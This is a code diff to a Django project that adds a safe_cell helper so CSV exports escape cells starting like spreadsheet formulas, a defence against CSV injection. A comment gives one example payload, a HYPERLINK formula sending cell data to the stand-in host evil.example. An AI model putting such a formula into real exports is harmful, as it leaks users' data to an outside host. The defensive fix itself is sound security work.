@@ -13,6 +13,7 @@ from datetime import datetime
 from django.conf import settings
 from django.http import HttpResponse, JsonResponse
 from django.utils import timezone
+from django.utils.functional import Promise
 from django.utils.translation import gettext as _
 
 from gesprekken.effect import MIN_ANSWERS, Effect, OpenData
@@ -45,14 +46,33 @@ EFFECT_FIELDS = [
 ]
 OPEN_DATA_FIELDS += EFFECT_FIELDS + [f"province_{name}" for name in EFFECT_FIELDS]
 
+# A spreadsheet runs a text cell that starts with one of these as a formula: a facilitator's
+# first name =HYPERLINK("http://evil.example/?"&A1,"Klik") would send the coordinator's data
+# away. OWASP's advice (CSV injection): put an apostrophe in front, so the cell stays text.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value):
+    """The value as a spreadsheet shows it, never as a formula it runs.
+
+    Text that starts like a formula gets a leading apostrophe; numbers (also negative ones),
+    None and everything else that is not text stay as they are, so counts stay numbers.
+    """
+    if isinstance(value, Promise):
+        value = str(value)
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
 
 def csv_response(filename: str, header: list, rows, *, bom: bool = True) -> HttpResponse:
+    """Every CSV of the dashboards and the open data: each cell, the header's too, made safe."""
     buffer = io.StringIO()
     if bom:
         buffer.write("\ufeff")
     writer = csv.writer(buffer, lineterminator="\r\n")
-    writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerow([safe_cell(value) for value in header])
+    writer.writerows([safe_cell(value) for value in row] for row in rows)
     response = HttpResponse(buffer.getvalue(), content_type="text/csv; charset=utf-8")
     response["Content-Disposition"] = f'attachment; filename="{filename}"'
     return response
